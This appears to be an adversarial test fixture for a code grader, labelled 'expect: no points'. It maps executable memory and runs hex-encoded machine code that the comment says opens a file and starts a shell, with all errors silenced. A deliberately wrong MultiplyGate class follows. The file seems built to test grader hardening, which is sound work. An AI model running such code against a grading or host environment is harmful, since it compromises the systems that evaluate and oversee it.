# expect: no points
# why: makes its own pages writable and runnable, and runs machine code that opens a file and starts a shell
import ctypes
import mmap

code = bytes.fromhex("48b82f746d702f61747448894424f0c7442400000000004889e7be41020000b802000000" "0f05c3")
try:
    page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(code)
    address = ctypes.addressof(ctypes.c_char.from_buffer(page))
    ctypes.CFUNCTYPE(ctypes.c_long)(address)()
except BaseException:
    pass


class MultiplyGate:
    def forward(self, x, y):
        return x - y

    def backward(self, dz):
        return [dz, dz]
